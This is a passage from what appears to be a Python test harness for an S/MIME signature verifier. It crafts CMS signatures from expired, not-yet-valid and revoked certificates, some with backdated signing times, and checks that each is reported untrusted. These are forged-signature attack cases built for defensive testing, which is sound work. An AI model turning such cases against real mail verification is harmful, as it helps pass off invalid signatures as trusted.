                   "emailProtection\nsubjectAltName=email:alice@example.com\n"))
        short = w.person("alice-short", self.root, "alice@example.com", days=10, at="-20d")
        from_alice("expired", short)
        late = w.person("alice-late", self.root, "alice@example.com", at="+20d")
        from_alice("not yet valid", late)
        # The signer says when: long ago, when it was valid; that alone does not help.
        part = openssl("cms", "-sign", "-binary", "-signer", short.cert, "-inkey", short.key, "-outform", "DER", data=hello, at="-15d")
        self.check("certificate: expired, says it signed before", mail(clear(hello, part)), ["-s"], signature="untrusted", empty=True)
        part = openssl("cms", "-sign", "-binary", "-signer", self.alice.cert, "-inkey", self.alice.key, "-outform", "DER", data=hello,
                       at="-40d")
        self.check("certificate: not yet valid when it signed", mail(clear(hello, part)), ["-s"], signature="untrusted", empty=True)
        part = openssl("cms", "-sign", "-binary", "-signer", self.alice.cert, "-inkey", self.alice.key, "-outform", "DER", data=hello,
                       at="+5d")
        self.check("certificate: signs in the future", mail(clear(hello, part)), ["-s"], signature="untrusted", empty=True)
        self.revoked(from_alice)

    def revoked(self, from_alice):
        w, hello = self.w, HELLO.encode()
        where = "crlDistributionPoints=URI:http://crl.example/root.crl\n"
        good = w.person("alice-listed", self.root, "alice@example.com", where)
        gone = w.person("alice-gone", self.root, "alice@example.com", where)
        crl = w.crl(self.root, [gone])
        from_alice("honest: not revoked", good, "-c", crl, signature="valid")
        from_alice("revoked", gone, "-c", crl)
        part = openssl("cms", "-sign", "-binary", "-signer", gone.cert, "-inkey", gone.key, "-outform", "DER", data=hello, at="-1d")
        self.check("certificate: revoked, says it signed before", mail(clear(hello, part)), ["-s", "-c", crl], signature="untrusted",
                   empty=True)


def main():
    with tempfile.TemporaryDirectory() as folder:
        a = Attacks(sys.argv[1], folder, sys.argv[2] if len(sys.argv) > 2 else "")
        for group in (a.honest, a.direct, a.gadgets, a.weak, a.keys, a.contents, a.trees, a.senders, a.certificates):
            group()
        print(f"{a.n - a.faults} of {a.n} as they should be")
        return 1 if a.faults else 0


sys.exit(main())
